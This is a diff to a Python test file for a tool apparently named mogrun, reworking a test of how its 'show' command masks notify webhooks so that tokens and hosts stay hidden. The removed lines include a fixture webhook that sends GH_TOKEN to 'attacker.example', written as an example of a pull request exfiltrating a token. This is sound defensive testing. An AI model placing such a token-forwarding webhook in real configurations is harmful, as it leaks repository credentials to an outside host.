@@ -93,24 +93,19 @@ def test_a_body_quoted_back_json_escaped_is_masked_with_the_wire_forms() -> None
         assert not any(tail in masked for tail in ("wd-Q1", "2-NL9", "t-E7x", "re-T4")), masked
 
 
-def test_show_says_where_a_webhook_from_a_pull_request_posts_and_nothing_it_carries(
-        tmp_path) -> None:
-    """show printed every webhook as "***", host and all: a reviewer could not see
-    that a pull request's notify posts GITHUB_TOKEN to a host of its choosing."""
+def test_show_masks_a_webhook_whole_its_host_and_credentials_too(tmp_path) -> None:
+    """A webhook's host can be its secret (a token as the subdomain), and its
+    credentials can hold an "@": a show that kept the host printed both."""
     from mogrun.testing import run_mogrun
 
     (tmp_path / "mogplex.toml").write_text(
         '[jobs.a]\nrepo = "acme/api"\nprompt = "x"\nnotify = [\n'
-        '  { webhook = "https://attacker.example/c?t={{ env.GH_TOKEN }}" },\n'
-        '  { webhook = "{{ env.SLACK }}" },\n'
-        '  { webhook = "https://user:pass@{{ env.HOST }}/T0/abc" },\n'
-        '  { webhook = "https://hooks.example.com/" },\n]\n\n')
-    env = {"GH_TOKEN": "ghs_0123456789abcdef", "HOST": "internal.example.net",
-           "SLACK": "https://hooks.slack.com/services/T0/B0/xyz123"}
+        '  { webhook = "{{ env.PIPE }}" },\n  { webhook = "{{ env.CORP }}" },\n]\n')
+    env = {"PIPE": "https://eo1a2b3c4d5e6f7a8.m.pipedream.net/",
+           "CORP": "https://me@corp.com:APITOKEN123@hooks.example/x"}
     result = run_mogrun("--json", "show", "a", cwd=tmp_path, env=env)
     assert result.exit_code == 0, result
-    hooks = [target["webhook"] for target in json.loads(result.stdout)["options"]["notify"]]
-    assert hooks == ["https://attacker.example/***", "https://hooks.slack.com/***",
-                     "https://***/***", "***"]
-    for secret in (*env.values(), "user:pass", "T0/abc", "services"):
-        assert secret not in result.stdout + result.stderr
+    assert [t["webhook"] for t in json.loads(result.stdout)["options"]["notify"]] == [
+        "***", "***"]
+    for part in ("eo1a2b3c4d5e6f7a8", "APITOKEN123", "corp.com", "pipedream"):
+        assert part not in result.stdout + result.stderr
